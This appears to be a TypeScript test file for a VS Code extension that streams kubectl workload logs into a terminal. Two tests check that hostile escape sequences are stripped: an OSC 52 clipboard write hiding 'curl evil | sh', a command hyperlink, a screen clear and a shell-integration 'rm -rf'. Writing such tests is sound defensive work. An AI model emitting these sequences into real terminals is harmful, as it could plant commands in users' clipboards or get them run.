import assert from 'node:assert/strict';
import { createLogsPty } from '../../../../src/vscode/workloads/logsPty.ts';

type Listeners = Parameters<Parameters<typeof createLogsPty>[1]>[1];

/** The output of the terminal, and its exit code. */
async function shown(run: (listeners: Listeners) => Promise<number>): Promise<readonly [string, number | undefined]> {
  const pty = createLogsPty({ file: 'kubectl', args: ['logs', 'deploy/a'] }, (_, listeners) => run(listeners));
  let text = '';
  pty.onDidWrite((more) => {
    text += more;
  });
  const code = await new Promise<number | undefined>((resolve) => {
    pty.onDidClose?.((ended) => {
      resolve(ended ?? undefined);
    });
    pty.open(undefined);
  });
  return [text, code];
}

describe('the logs of a workload', () => {
  it('are shown with their colours below the command', async () => {
    const [text, code] = await shown(async ({ onStdout, onStderr }) => {
      onStdout?.(Buffer.from('[a] one\n[a] \x1b[31mtwo'));
      onStderr?.(Buffer.from('error: no more\n'));
      return Promise.resolve(3);
    });
    assert.equal(code, 3);
    assert.equal(text, 'kubectl logs deploy/a\r\n[a] one\r\nerror: no more\r\n[a] \x1b[0;31mtwo\x1b[0m\r\n');
  });

  it('attack: a pod writes the clipboard, a link, or what looks like other lines', async () => {
    const clipboard = `\x1b]52;c;${Buffer.from('curl evil | sh\n').toString('base64')}\x07`;
    const attacks = [
      clipboard,
      '\x1b]8;;command:evil\x07here\x1b]8;;\x07',
      '\x1b[2J\x1b[H',
      '\x1b]633;E;rm -rf\x07',
      '\x9d52;c;AA==\x9c',
    ];
    for (const attack of attacks) {
      const [text] = await shown(async ({ onStdout, onStderr }) => {
        // in chunks, as it may arrive
        for (const byte of Buffer.from(attack)) {
          onStdout?.(Buffer.of(byte));
        }
        onStderr?.(Buffer.from(attack));
        return Promise.resolve(0);
      });
      // eslint-disable-next-line no-control-regex
      assert.ok(!/[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f-\x9f]|\x1b(?!\[[\d;]*m)/.test(text), JSON.stringify(text));
    }
  });

  it('attack: what kubectl fails with is obeyed by the terminal', async () => {
    const [text, code] = await shown(() => Promise.reject(new Error('no \x1b]52;c;AA==\x07 such file')));
    assert.equal(code, 1);
    assert.ok(!text.includes('\x1b'), JSON.stringify(text));
  });
});
